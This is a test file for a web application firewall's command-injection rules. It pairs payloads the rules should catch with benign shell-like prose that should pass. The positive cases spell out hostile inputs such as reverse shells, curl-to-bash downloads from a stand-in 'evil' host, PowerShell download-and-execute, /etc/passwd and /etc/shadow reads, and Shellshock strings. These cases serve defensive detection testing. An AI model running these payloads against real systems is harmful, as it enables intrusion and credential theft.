import t from 'tap';
import { negatives, positives } from './table.js';
import { T_ANY_HEADER, T_FILENAME, T_HEADER, T_VALUE } from '../../../src/waf/rule.js';

void t.test('command injection is caught through shell obfuscation', async (t) => {
  positives(t, [
    { v: '127.0.0.1; cat /etc/passwd', rule: 932100 },
    { v: 'x | nc -e /bin/sh 10.0.0.1 4444', rule: 932100 },
    { v: 'a;c\'\'at${IFS}/e\'\'tc/pa\'\'ss\'\'wd', rule: 932100 },
    { v: 'x\nwget http://198.51.100.7/a -O /tmp/a', rule: 932100 },
    { v: 'nc -e /bin/sh 10.0.0.1 4444', rule: 932101 },
    { v: '`whoami`', rule: 932110 },
    { v: '$(curl -fsSL http://evil/i.sh|bash)', rule: 932110 },
    { v: '$(id)', rule: 932110 },
    { v: 'powershell -nop -w hidden -enc SQBFAFgA', rule: 932120 },
    { v: "IEX (New-Object Net.WebClient).DownloadString('http://x')", rule: 932120 },
    { v: '127.0.0.1;${IFS}cat${IFS}/etc/shadow', rule: 932130 },
    { v: '() { :; }; /bin/bash -c id', rule: 932140, bits: T_ANY_HEADER },
    { v: 'bash -i >& /dev/tcp/10.0.0.1/8080 0>&1', rule: 932150 },
    { v: 'curl http://x/a.sh | sh', rule: 932150 },
    { v: 'x & cmd.exe /c dir', rule: 932170 },
    { v: 'shell.php', rule: 932180, bits: T_VALUE | T_FILENAME },
    { v: 'avatar.php.jpg', rule: 932180, bits: T_VALUE | T_FILENAME },
    { v: '127.0.0.1\nid', rule: 932190 },
    { v: '8.8.8.8|id', rule: 932190 },
  ]);
});

void t.test('shell words in prose, markdown and docs stay clean', async (t) => {
  negatives(t, [
    'Ring twice; the bell is broken.', 'Let cool; slice', 'Fast delivery; the box was a bit damaged',
    'Run `npm install` then `npm run dev`; the server listens on localhost:3000', 'Run `ls -la` and `cat package.json`',
    'The `id` and `env` fields are required', '| id | name | role |\n|----|------|\n| 1 | Ann |', 'name;id;email',
    'docker run --rm -v $(pwd):/app -w /app node:20 npm test', 'sudo chown $(whoami) ./data',
    "#!/bin/bash\nset -euo pipefail\nnpm ci && npm run build", 'Use `curl -s https://api.example.com/health | jq .status`',
    'rv=sku-10442|sku-20017|sku-30991', 'version 1.5; type A', 'cat food & dog food', 'Mix flour & water',
  ]);
  negatives(t, ['curl/8.5.0', 'Wget/1.21.4', 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0'], T_HEADER);
});
